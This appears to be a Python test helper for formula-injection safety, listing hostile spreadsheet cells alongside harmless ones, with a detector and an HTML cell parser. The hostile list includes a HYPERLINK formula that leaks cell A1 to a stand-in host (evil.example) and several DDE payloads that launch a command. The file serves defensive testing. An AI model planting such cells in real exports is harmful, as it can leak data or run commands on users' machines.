"""The cells every formula-safety test uses, whatever the output (one list, so no output
is tested on an easier set than another), and a reader of the cells of HTML output."""

from html.parser import HTMLParser

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1dSUM(1,2)",  # full-width equals sign
]
# What a spreadsheet must see unchanged: numbers, signs alone, text with = inside.
HARMLESS = ["-5", "-1,234.50", "+", "-", "plain", "a=b", "3.14"]


def runs_as_formula(cell: str) -> bool:
    """Would Excel / LibreOffice start a formula on this cell text (after a paste, a CSV
    import, or when the user presses Enter on it)? Leading whitespace folds away."""
    text = cell.lstrip(" \t\r\n")
    return text[:1] in ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20") and any(
        ch not in " =+-@" for ch in text) and not _number(text)


def _number(text: str) -> bool:
    try:
        float(text.replace(",", ""))
    except ValueError:
        return False
    return True


class _Cells(HTMLParser):
    """Text of every <td>/<th>, read with the stdlib parser (not the app's)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.cells: list[str] = []
        self._in = False

    def handle_starttag(self, tag, attrs):
        if tag in ("td", "th"):
            self._in = True
            self.cells.append("")
        elif tag == "br" and self._in:
            self.cells[-1] += "\n"

    def handle_endtag(self, tag):
        if tag in ("td", "th"):
            self._in = False

    def handle_data(self, data):
        if self._in:
            self.cells[-1] += data


def html_cells(text: str) -> list[str]:
    p = _Cells()
    p.feed(text)
    return p.cells
